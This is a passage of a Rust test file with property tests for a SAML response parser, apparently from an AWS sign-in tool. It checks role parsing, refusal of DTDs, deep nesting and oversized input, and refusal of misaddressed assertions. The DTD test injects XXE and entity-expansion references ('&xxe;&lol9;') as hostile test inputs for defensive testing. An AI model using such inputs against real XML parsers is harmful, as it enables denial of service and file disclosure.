        }

        #[test]
        fn random_role_values_give_exactly_the_valid_pairs(
            i in 0..8usize,
            values in prop::collection::vec(role_value(), 0..6),
            joined in any::<bool>(),
            cdata in any::<bool>(),
            w in any_wrap(),
        ) {
            let doc = [ADFS, OKTA, ENTRA, GOOGLE, PING, AWS_CN, AWS_US_GOV, EXPIRED][i];
            let mut want: Vec<Role> = Vec::new();
            for r in values.iter().filter_map(|(_, r)| r.clone()) {
                if !want.iter().any(|o| o.role_arn == r.role_arn && o.principal_arn == r.principal_arn) {
                    want.push(r);
                }
            }
            // `role1,provider1,role2,provider2` in one value, as some IdPs send: only
            // for valid pairs whose names hold no comma
            let strs: Vec<String> = if joined && values.len() > 1 && values.iter().all(|(v, r)| r.as_ref().is_some_and(|r| !r.name.contains(',')) && !v.is_empty()) {
                vec![values.iter().map(|(v, _)| v.trim()).collect::<Vec<_>>().join(",")]
            } else {
                values.iter().map(|(v, _)| v.clone()).collect()
            };
            let xml = with_role_values(doc, &strs, cdata);
            match outcome(&wrap(w, xml.as_bytes())) {
                Ok(roles) => prop_assert_eq!(roles, want),
                Err(code) => {
                    prop_assert!(want.is_empty(), "{:?} with valid pairs in {}", code, xml);
                    prop_assert_eq!(code, Code::SamlNoRoles);
                }
            }
        }

        #[test]
        fn dtds_anywhere_are_refused_quickly(
            i in 0..13usize,
            decl in dtd(),
            at in any::<Index>(),
            reference in any::<Option<Index>>(),
            w in any_wrap(),
        ) {
            let mut xml = XML_FIXTURES[i].to_string();
            if let Some(r) = reference {
                // not before the first `<`: the input must still look like markup
                let bounds: Vec<usize> = xml.char_indices().skip(1).map(|(p, _)| p).collect();
                xml.insert_str(bounds[r.index(bounds.len())], "&xxe;&lol9;");
            }
            let bounds: Vec<usize> = xml.char_indices().map(|(p, _)| p).chain([xml.len()]).collect();
            xml.insert_str(bounds[at.index(bounds.len())], &decl);
            let (e, took) = timed_error(&wrap(w, xml.as_bytes()));
            prop_assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
            prop_assert!(e.message.contains("DTD"), "{}", e.message);
            prop_assert!(took < QUICK, "{:?}", took);
        }

        #[test]
        fn nesting_within_the_bound_is_parsed(
            depth in 0..parse::MAX_DEPTH,
            style in 0..4usize,
            w in any_wrap(),
        ) {
            // no Assertion, so SamlInvalid, but parsed rather than refused
            let code = outcome(&wrap(w, nested(depth, style).as_bytes())).unwrap_err();
            prop_assert_eq!(code, Code::SamlInvalid);
        }
    }

    proptest! {
        #![proptest_config(config(64))]

        #[test]
        fn deep_nesting_is_refused_quickly(
            // (the longest style stays under the size cap in base64 up to ~8k levels)
            extra in prop_oneof![1..64usize, 64..4_000usize],
            style in 0..4usize,
            w in any_wrap(),
        ) {
            // the Response plus MAX_DEPTH elements is one level too deep
            let input = wrap(w, nested(parse::MAX_DEPTH - 1 + extra, style).as_bytes());
            let (e, took) = timed_error(&input);
            prop_assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
            prop_assert!(e.message.contains("deep"), "{}", e.message);
            prop_assert!(took < QUICK, "{:?}", took);
        }
    }

    proptest! {
        #![proptest_config(config(32))]

        #[test]
        fn inputs_over_the_size_cap_are_refused_before_decoding(
            extra in 1..65_536usize,
            fill in prop::sample::select(vec![
                &b"A"[..], &b"<"[..], &b" "[..], &b"\xff"[..], &b"%2B"[..], &b"<a>"[..], OKTA.as_bytes(),
            ]),
        ) {
            let n = MAX_INPUT_BYTES + extra;
            let mut input = fill.repeat(n / fill.len() + 1);
            input.truncate(n);
            let (e, took) = timed_error(&input);
            prop_assert_eq!(e.code, Code::SamlTooLarge, "{}", e.message);
            prop_assert!(e.message.contains("1024 KiB"), "{}", e.message);
            prop_assert!(took < QUICK, "{:?}", took);
        }
    }
}

#[test]
fn an_assertion_for_another_service_is_refused_but_the_profiles_loopback_acs_is_not() {
    let loopback = "http://127.0.0.1:8733/saml";
    let a = Assertion {
        issuer: None,
        subject: None,
        role_session_name: None,
        session_duration: None,
        not_on_or_after: None,
        recipient: Some(loopback.into()),
        destination: Some(format!("{loopback}/")),
        roles: vec![],
        response_b64: SecretString::new("x"),
    };
    let e = a.check_addressed_to_aws().unwrap_err();
    assert_eq!(e.code, Code::SamlInvalid);
    assert!(e.message.contains("127.0.0.1:8733"), "{}", e.message);
    assert!(a.check_addressed_to(&[loopback.to_string()]).is_ok());
    assert!(a
        .check_addressed_to(&["http://127.0.0.1:9999/saml".to_string()])
        .is_err());
}
